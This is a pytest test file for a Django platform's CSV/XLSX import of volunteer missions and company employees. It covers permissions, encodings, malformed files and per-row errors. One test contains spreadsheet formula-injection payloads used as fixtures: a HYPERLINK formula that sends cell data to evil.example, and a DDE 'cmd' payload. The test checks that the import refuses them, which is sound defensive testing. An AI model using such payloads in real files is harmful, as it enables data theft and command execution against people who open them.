import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from missions.models import Mission
from taxonomy.models import Cause, Skill

from .conftest import client_for

pytestmark = pytest.mark.django_db

HEADER = "title;summary;cause;skills;location_mode;city;effort_hours"


def csv_file(*lines: str, name="missions.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, "\n".join([HEADER, *lines]).encode(), "text/csv")


@pytest.fixture
def codes(db):
    skills = list(Skill.objects.order_by("pk").values_list("code", flat=True)[:2])
    return {"cause": Cause.objects.order_by("pk").first().code, "skills": skills}


def good_line(codes, title="Site web"):
    return f"{title};Refaire le site;{codes['cause']};{codes['skills'][0]}:3:required;remote;;15"


def test_missions_are_imported_from_csv_as_drafts(association, owner_key, codes):
    skills = f"{codes['skills'][1]}|{codes['skills'][0]}::nice_to_have"
    upload = csv_file(
        good_line(codes),
        f"Compta;Tenir les comptes;{codes['cause']};{skills};on_site;Lyon;8",
    )
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 201, answer.json()
    assert answer.json()["created"] == 2
    missions = Mission.objects.filter(pk__in=answer.json()["ids"]).order_by("pk")
    assert [m.state for m in missions] == ["draft", "draft"]
    assert missions[1].skills.count() == 2 and missions[1].departement is not None


def test_one_wrong_row_imports_nothing_and_says_which(association, owner_key, codes):
    upload = csv_file(
        good_line(codes),
        f"Sans cause;Résumé;inconnue;{codes['skills'][0]};remote;;10",
        f"Sur place sans ville;Résumé;{codes['cause']};{codes['skills'][0]};on_site;;10",
    )
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 400
    body = answer.json()
    assert body["code"] == "import_rejected"
    assert [row["row"] for row in body["rows"]] == [3, 4]
    assert "cause" in body["rows"][0]["errors"]
    assert "city" in body["rows"][1]["errors"]
    assert Mission.objects.count() == 0


def test_missions_are_imported_from_xlsx(association, owner_key, codes):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER.split(";"))
    sheet.append(
        ["Site", "Refaire le site", codes["cause"], codes["skills"][0], "remote", None, 12]
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = SimpleUploadedFile("missions.xlsx", buffer.getvalue())
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 201, answer.json()
    assert Mission.objects.get().effort_hours == 12


def test_other_files_are_refused(owner_key):
    upload = SimpleUploadedFile("missions.pdf", b"%PDF")
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 400 and "file" in answer.json()["errors"]


def test_outsiders_and_companies_cannot_import(association, outsider, company_key, codes):
    for client in (
        client_for(outsider),
        client_for(secret=company_key),
    ):
        answer = client.post(
            "/api/v1/imports/missions/",
            {"file": csv_file(good_line(codes)), "association": association.slug},
            format="multipart",
        )
        assert answer.status_code == 403
    assert Mission.objects.count() == 0


def test_the_import_page_reports_errors_row_by_row(client, association, owner, codes):
    client.force_login(owner)
    url = f"/organisation/association/{association.slug}/import/"
    assert client.get(url).status_code == 200
    page = client.post(url, {"file": csv_file(good_line(codes), "X;Y;inconnue;nope;remote;;1")})
    assert page.status_code == 400
    content = page.content.decode()
    assert "Rien n'a été importé" in content and 'role="alert"' in content
    assert Mission.objects.count() == 0
    done = client.post(url, {"file": csv_file(good_line(codes))}, follow=True)
    assert "1 mission importée en brouillon" in done.content.decode()
    assert Mission.objects.count() == 1


def employees_csv(*lines: str) -> SimpleUploadedFile:
    text = "\n".join(["email,role,allowance_hours_override", *lines])
    return SimpleUploadedFile("salaries.csv", text.encode(), "text/csv")


def test_a_company_imports_its_employees_with_its_key(
    company, company_key, mailoutbox, django_capture_on_commit_callbacks
):
    from companies.models import CompanyMember

    with django_capture_on_commit_callbacks(execute=True):
        answer = client_for(secret=company_key).post(
            "/api/v1/imports/employees/",
            {"file": employees_csv("ana@acme.example,employee,", "bo@acme.example,manager,20")},
            format="multipart",
        )
    assert answer.status_code == 201, answer.json()
    members = CompanyMember.objects.filter(pk__in=answer.json()["ids"]).order_by("pk")
    assert [(m.user.email, m.role, m.allowance_hours_override) for m in members] == [
        ("ana@acme.example", "employee", None),
        ("bo@acme.example", "manager", 20),
    ]
    assert len(mailoutbox) == 2


def test_one_wrong_employee_row_imports_nobody_and_sends_nothing(
    company, company_admin, mailoutbox, django_capture_on_commit_callbacks
):
    from companies.models import CompanyMember

    before = CompanyMember.objects.count()
    with django_capture_on_commit_callbacks(execute=True):
        answer = client_for(company_admin).post(
            "/api/v1/imports/employees/",
            {
                "file": employees_csv("ana@acme.example,employee,", "pas-une-adresse,boss,x"),
                "company": company.slug,
            },
            format="multipart",
        )
    assert answer.status_code == 400
    rows = answer.json()["rows"]
    assert [row["row"] for row in rows] == [3]
    assert CompanyMember.objects.count() == before
    assert mailoutbox == []


def test_an_association_key_cannot_import_employees(owner_key, company):
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/employees/",
        {"file": employees_csv("ana@acme.example,employee,"), "company": company.slug},
        format="multipart",
    )
    assert answer.status_code == 403


def test_old_mac_line_endings_import_like_any_other(association, owner_key, codes):
    upload = SimpleUploadedFile(
        "missions.csv", "\r".join([HEADER, good_line(codes), good_line(codes, "Compta")]).encode()
    )
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 201, answer.json()
    assert answer.json()["created"] == 2


@pytest.mark.parametrize(
    "content",
    [b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", b"title;summary\n\x00\x00\x00;x\n"],
    ids=["an image", "nul bytes"],
)
def test_a_binary_file_is_refused_with_a_reason_and_nothing_stored(association, owner_key, content):
    upload = SimpleUploadedFile("missions.csv", content)
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 400
    assert "file" in answer.json()["errors"]
    assert Mission.objects.count() == 0


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
def test_any_encoding_of_a_french_spreadsheet_imports(association, owner_key, codes, encoding):
    text = "\r\n".join([HEADER, good_line(codes, "Trésorerie à l'équilibre")])
    upload = SimpleUploadedFile("missions.csv", text.encode(encoding))
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 201, answer.json()
    assert Mission.objects.get().title == "Trésorerie à l'équilibre"


@pytest.mark.parametrize(
    "content", [b"", HEADER.encode(), b"\n\n"], ids=["empty", "header", "blank"]
)
def test_an_empty_file_is_refused_with_a_reason(association, owner_key, content):
    upload = SimpleUploadedFile("missions.csv", content)
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 400
    assert "file" in answer.json()["errors"]


def test_formula_cells_are_refused_row_by_row(association, owner_key, codes):
    upload = csv_file(
        good_line(codes),
        good_line(codes, '=HYPERLINK("http://evil.example/?"&A1;"Clic")'),
        good_line(codes, "-2+3+cmd|' /C calc'!A0"),
        good_line(codes, "- Atelier - 2 h"),  # a dash is text, not a formula
    )
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 400
    rows = answer.json()["rows"]
    assert [row["row"] for row in rows] == [3, 4]
    assert "formule" in rows[0]["errors"]["title"][0]
    assert Mission.objects.count() == 0


def test_formulas_in_a_workbook_are_refused_not_evaluated(association, owner_key, codes):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER.split(";"))
    sheet.append(["Site", "=1+1", codes["cause"], codes["skills"][0], "remote", None, 12])
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = SimpleUploadedFile("missions.xlsx", buffer.getvalue())
    answer = client_for(secret=owner_key).post(
        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
    )
    assert answer.status_code == 400
    assert "summary" in answer.json()["rows"][0]["errors"]
    assert Mission.objects.count() == 0
